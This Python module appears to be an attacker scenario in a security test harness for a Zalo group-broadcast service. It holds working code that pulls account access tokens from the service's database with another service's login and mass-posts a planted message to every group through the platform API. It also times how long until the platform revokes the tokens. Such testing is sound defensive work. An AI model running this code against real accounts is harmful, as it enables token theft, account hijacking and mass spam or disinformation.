"""Whoever has come by accounts' tokens: they post at the platform themselves, past the engine."""

import asyncio
import json
from collections.abc import Iterable
from contextlib import suppress
from typing import Any

import aiohttp
import psycopg

from attack.attackers.trade import LIE, Attacker

TOKENS = "SELECT access_token FROM zalo.accounts WHERE access_token IS NOT NULL"
NOTICED_S = 60.0
"""An account is stopped, and its token dead, so long after the first post at the latest."""
TOKEN_INVALID = -216
GROUPS = "SELECT group_id FROM broadcast.groups"


async def read(attacker: Attacker) -> None:
    """Out of the tables, by another service's login."""
    connect: Any = psycopg.AsyncConnection.connect
    async with await connect(attacker.holds["DATABASE_URL"]) as conn:
        try:
            tokens = [token for (token,) in await (await conn.execute(TOKENS)).fetchall()]
            groups = [group for (group,) in await (await conn.execute(GROUPS)).fetchall()]
        except psycopg.errors.InsufficientPrivilege as refusal:
            attacker.refused.append(str(refusal))
            return
    await post(attacker, tokens, groups)


async def seize(attacker: Attacker) -> None:
    """One post through each account that is none of the force's; then nothing until that is noticed, or should have
    been; then to everybody."""
    tokens = json.loads(attacker.holds["TOKENS"])
    first = {token: group for group, token in reversed(tokens.items())}
    async with aiohttp.ClientSession(attacker.knows["platform_url"]) as http:
        for token, group in first.items():
            await send(attacker, http, token, group, "Tin riêng")
        with suppress(TimeoutError):
            async with asyncio.timeout(NOTICED_S):
                for token in first:
                    await _dead(http, token)
        for group, token in tokens.items():
            await send(attacker, http, token, group, LIE)
    del attacker.refused[3:]


async def _dead(http: aiohttp.ClientSession, token: str) -> None:
    """Returns once the platform takes it no more."""
    while True:
        page = {"offset": "0", "count": "1"}
        async with http.get("/v3.0/oa/group/getgroupsofoa", params=page, headers={"access_token": token}) as answer:
            if (await answer.json(content_type=None)).get("error") == TOKEN_INVALID:
                return
        await asyncio.sleep(1.0)


async def post(attacker: Attacker, tokens: Iterable[str], groups: Iterable[str]) -> None:
    """To every group, through whichever account has it."""
    groups = list(groups)
    async with aiohttp.ClientSession(attacker.knows["platform_url"]) as http:
        for token in tokens:
            for group_id in groups:
                await send(attacker, http, token, group_id, LIE)
    del attacker.refused[3:]  # one account's groups are no other's: the first tell enough


async def send(attacker: Attacker, http: aiohttp.ClientSession, token: str, group_id: str, text: str) -> None:
    body = {"recipient": {"group_id": group_id}, "message": {"text": f"{text}\nMã: {attacker.knows['code']}"}}
    async with http.post("/v3.0/oa/group/message", json=body, headers={"access_token": token}) as answer:
        said = await answer.json(content_type=None)
    if said.get("error"):
        attacker.refused.append(f"{group_id}: {said.get('error')} {said.get('message')}")
